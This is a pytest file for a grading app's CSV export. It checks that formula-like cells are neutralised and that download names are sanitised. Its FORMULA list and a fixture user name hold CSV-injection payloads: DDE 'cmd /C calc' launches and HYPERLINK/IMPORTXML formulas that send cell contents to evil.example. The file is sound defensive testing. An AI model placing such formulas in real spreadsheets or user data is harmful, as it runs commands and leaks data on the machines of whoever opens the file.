"""Every CSV export goes through one writer, and no cell of it runs as a spreadsheet formula."""

import csv
import io

import pytest

from grader.store.models import User
from grader.store.users import create_token
from grader.web.csv_export import FORMULA_PREFIXES, csv_cell, csv_response, csv_text
from tests.web.conftest_pages import (  # noqa: F401  (fixtures)
    accounts, as_instructor, as_student, grade_all, problems, submit_answers,
)

# Payloads from OWASP's CSV-injection page and its relatives.
FORMULAS = ["=1+1", "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-m*g", "+g", "@me",
            "=IMPORTXML(CONCAT(\"http://evil.example/?\", A1), \"//a\")", "-", "=", "-1+2", "+1e3*A1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_is_read_back_as_text(value):
    assert csv_cell(value) == "'" + value
    (cell,) = next(csv.reader(io.StringIO(csv_text([[value]]))))
    assert cell == "'" + value


@pytest.mark.parametrize("value", [0, 7, -3, 2.5, -0.5, 1e-9, True, "m*g/3", "Ada Lovelace", "ada@example.org",
                                   "", "a=b", "x - y", "-0.5", "+3", "-12", "1e5", "-.5"])
def test_numbers_and_plain_text_are_unchanged(value):
    assert csv_cell(value) == value


def test_none_is_an_empty_cell():
    assert csv_text([[None, 1]]) == ",1\r\n"


def test_mappings_follow_the_header_and_quoting_survives():
    text = csv_text([{"b": 'say "hi",\nthen =1+1', "a": -1}, {"a": "=2"}], header=["a", "b"])
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["-1", 'say "hi",\nthen =1+1'], ["'=2", ""]]


def test_the_download_is_named_safely(app):
    with app.test_request_context():
        response = csv_response([[1]], 'a"b\r\n/../x.csv', header=["n"])
    assert response.mimetype == "text/csv"
    # No quote, newline or slash left in the name.
    assert response.headers["Content-Disposition"] == 'attachment; filename="a_b_.._x.csv"'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _live_formulas(text: str) -> list[str]:
    """Cells a spreadsheet would run: a formula prefix and not a plain number."""
    return [c for c in _cells(text) if c.startswith(FORMULA_PREFIXES) and csv_cell(c) != c]


def test_every_export_neutralises_a_hostile_name_and_answer(app, accounts, problems, as_student, as_instructor):
    hostile_name = '=HYPERLINK("http://evil.example?"&A1,"grade")'
    with app.extensions["lagrade.db"].write() as session:
        session.get(User, accounts["ada"].id).name = hostile_name
        session.get(User, accounts["ada"].id).external_id = "@ada"
        instructor_token = create_token(session, session.get(User, accounts["ine"].id))
    # Answers that start like formulas and are readable ("=1+1" is refused before it is stored).
    submit_answers(as_student, "mech", tension="-m*g", acceleration="+g")
    grade_all(app)
    exports = {
        "instructor page": as_instructor.get("/instructor/problems/mech/submissions.csv"),
        "API grades": app.test_client().get("/api/v1/problems/mech/grades?format=csv",
                                            headers={"Authorization": f"Bearer {instructor_token}"}),
    }
    for where, response in exports.items():
        assert response.status_code == 200 and response.mimetype == "text/csv", where
        text = response.get_data(as_text=True)
        assert "'" + hostile_name in _cells(text) and "'@ada" in _cells(text), where
        assert _live_formulas(text) == [], where
    assert {"'-m*g", "'+g"} <= set(_cells(exports["instructor page"].get_data(as_text=True)))
